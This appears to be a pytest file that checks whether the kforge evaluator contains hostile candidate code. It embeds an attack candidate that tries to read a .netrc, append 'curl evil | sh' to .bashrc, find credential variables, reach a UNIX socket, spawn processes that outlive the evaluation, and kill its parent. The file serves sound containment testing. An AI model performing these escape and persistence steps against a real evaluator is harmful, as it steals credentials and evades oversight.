"""Containment, tried through the evaluator as a hostile candidate would: what it runs cannot
see secrets, touch the user's files, reach a socket, outlive its evaluation or take kforge down.

Each attack is a candidate generated here with the paths it goes for baked in; it prints
``ESCAPED: ...`` for every attempt that works, and the tests look at the side effects too.
Where the host lacks a layer (``contain.probe()``), the test of that layer is skipped with the
reason and the result must carry a "not contained" flag instead.
"""

from __future__ import annotations

import os
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from kforge.tools import evaluate as evaluate_module
from kforge.tools.contain import probe
from kforge.tools.evaluate import EvalOptions, evaluate
from kforge.tools.result import Result, Status
from kforge.tools.task import Task

LAYERS = {line.split(":")[0]: line for line in probe()}


def _active(layer: str) -> bool:
    return "NOT contained" not in LAYERS.get(layer, "NOT contained")


ATTACK = """
import os, socket, subprocess, sys
import torch
import torch.nn as nn

def _try(name, action):
    try:
        action()
        print("ESCAPED:", name, flush=True)
    except Exception as err:
        print("held:", name, type(err).__name__, flush=True)

_try("read-secret", lambda: open({secret!r}).read())
_try("write-outside", lambda: open({outside!r}, "w").write("pwned"))
_try("append-rc", lambda: open({rc!r}, "a").write("curl evil | sh\\n"))
_try("write-tmp", lambda: open("/tmp/kforge-escaped-" + str(os.getpid()), "w").write("x"))
_try("edit-task", lambda: open({task!r}, "a").write("# pwned\\n"))
def _unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect({sock!r})
    s.sendall(b"pwned")
_try("unix-socket", _unix)
for name in ("DATABASE_URL", "PIP_INDEX_URL", "HTTPS_PROXY", "OPENAI_API_KEY"):
    if name in os.environ:
        print("ESCAPED: env", name, flush=True)
subprocess.Popen(["sleep", "{marker}"], start_new_session=True)  # a setsid daemon
if os.fork() == 0:  # a double fork
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{marker}"])
    os._exit(0)
_parent = os.getppid()  # 0 inside a pid namespace: the parent is not even visible
if _parent:
    _try("kill-parent", lambda: os.kill(_parent, 9))
else:
    print("held: kill-parent (no parent visible)", flush=True)

class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(features))
        self.bias = nn.Parameter(torch.randn(features))

    def forward(self, x):
        return torch.relu(x * self.weight + self.bias)
"""


class _Listener:
    """A UNIX socket server in the test's folder that records every connection."""

    def __init__(self, path: Path) -> None:
        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.server.bind(str(path))
        self.server.listen(4)
        self.server.settimeout(0.2)
        self.connections = 0
        self.done = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.done:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.done = True
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def attack(
    tmp_path_factory: pytest.TempPathFactory,
    fixture_task: Callable[[str], Task],
    make_session_cpu_options: Callable[..., EvalOptions],
) -> Iterator[tuple[Result, dict[str, object]]]:
    home = tmp_path_factory.mktemp("home")
    secret, rc = home / ".netrc", home / ".bashrc"
    secret.write_text("machine example.com login me password hunter2\n")
    rc.write_text("# the user's own\n")
    marker = str(7000 + os.getpid() % 1000)
    listener = _Listener(home / "agent.sock")
    task = fixture_task("scale_relu")
    source = ATTACK.format(
        secret=str(secret), outside=str(home / "planted"), rc=str(rc), task=str(task.path),
        sock=str(home / "agent.sock"), marker=marker,
    )  # fmt: skip
    task_before = task.path.read_text()
    patch = pytest.MonkeyPatch()
    patch.setattr(evaluate_module, "static_cheats", lambda *args: [])  # the walls alone
    for name, value in {
        "DATABASE_URL": "postgres://user:pw@db/prod",
        "PIP_INDEX_URL": "https://user:pw@pypi.example/simple",
        "HTTPS_PROXY": "http://user:pw@proxy:3128",
        "OPENAI_API_KEY": "sk-not-real",
    }.items():
        patch.setenv(name, value)
    try:
        result = evaluate(task, source, make_session_cpu_options())
    finally:
        patch.undo()
    time.sleep(1.0)
    seen = {
        "rc": rc.read_text(),
        "planted": (home / "planted").exists(),
        "task_same": task.path.read_text() == task_before,
        "connections": listener.connections,
        "survivors": subprocess.run(
            ["pgrep", "-f", f"sleep {marker}"], capture_output=True, text=True
        ).stdout,
    }
    listener.close()
    subprocess.run(["pkill", "-f", f"sleep {marker}"], check=False)
    yield result, seen


def _escapes(result: Result) -> list[str]:
    return [line for line in result.log.splitlines() if line.startswith("ESCAPED")]


def test_kforge_survives_and_the_result_says_what_contained_it(attack: tuple[Result, dict]) -> None:
    result, _ = attack
    assert result.status in (Status.OK, Status.RUNTIME_ERROR), (result.status, result.log[-1500:])
    assert result.containment, result.log[:3000]
    assert len(result.containment) >= 5, result.containment
    missing = [line for line in result.containment if "NOT contained" in line]
    assert all(any(line in flag for flag in result.flags) for line in missing), (missing, result.flags)


def test_no_secret_reaches_the_candidate(attack: tuple[Result, dict]) -> None:
    result, _ = attack
    assert not [e for e in _escapes(result) if e.startswith("ESCAPED: env")], _escapes(result)


@pytest.mark.skipif(not _active("filesystem"), reason=LAYERS.get("filesystem", "no filesystem layer"))
def test_the_users_files_are_out_of_reach(attack: tuple[Result, dict]) -> None:
    result, seen = attack
    escaped = _escapes(result)
    for name in ("read-secret", "write-outside", "append-rc", "write-tmp", "edit-task"):
        assert f"ESCAPED: {name}" not in escaped, escaped
    assert seen["rc"] == "# the user's own\n" and not seen["planted"] and seen["task_same"]


@pytest.mark.skipif(not _active("syscalls"), reason=LAYERS.get("syscalls", "no syscall layer"))
def test_a_unix_socket_on_the_filesystem_is_out_of_reach(attack: tuple[Result, dict]) -> None:
    result, seen = attack
    assert "ESCAPED: unix-socket" not in _escapes(result)
    assert seen["connections"] == 0


@pytest.mark.skipif(not _active("processes"), reason=LAYERS.get("processes", "no pid namespace"))
def test_nothing_the_candidate_started_outlives_its_evaluation(attack: tuple[Result, dict]) -> None:
    _, seen = attack
    assert seen["survivors"] == "", f"still running: {seen['survivors']}"


def test_killing_its_parent_kills_nothing_of_kforge(attack: tuple[Result, dict]) -> None:
    """The test process is the evaluating parent: that it is here to assert is the point."""
    result, _ = attack
    assert "ESCAPED: kill-parent" not in _escapes(result)
